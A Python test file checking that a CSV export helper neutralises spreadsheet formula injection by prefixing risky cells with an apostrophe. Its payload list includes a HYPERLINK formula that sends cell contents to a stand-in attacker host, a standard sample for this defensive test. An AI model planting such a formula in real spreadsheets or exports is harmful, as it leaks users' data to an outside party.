"""CSV exports defuse cells a spreadsheet would run as a formula (OWASP CSV injection): = + - @, tab, carriage return."""

from __future__ import annotations

import csv
import io

import pytest

from comply.files.office import BOM, csv_text, dicts_csv

FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"点我")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def parse(text: str) -> list[list[str]]:
    assert text.startswith(BOM)
    return list(csv.reader(io.StringIO(text[len(BOM):], newline="")))


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_cell_starting_like_a_formula_stays_text(cell):
    assert parse(csv_text(["用户名"], [[cell]]))[1] == ["'" + cell]


def test_ordinary_cells_and_numbers_are_left_alone():
    rows = parse(csv_text(["名称", "数量", "比例"], [["甲", -5, 1.5], ["a=b", None, "x-y"], ["", 0, "保本"]]))
    assert rows[1:] == [["甲", "-5", "1.5"], ["a=b", "", "x-y"], ["", "0", "保本"]]


def test_headers_and_dict_rows_are_defused_too():
    text = dicts_csv([{"=cmd": "@x", "seq": 1}, {"=cmd": "-1", "seq": -1}]).decode("utf-8")
    assert parse(text) == [["'=cmd", "seq"], ["'@x", "1"], ["'-1", "-1"]]
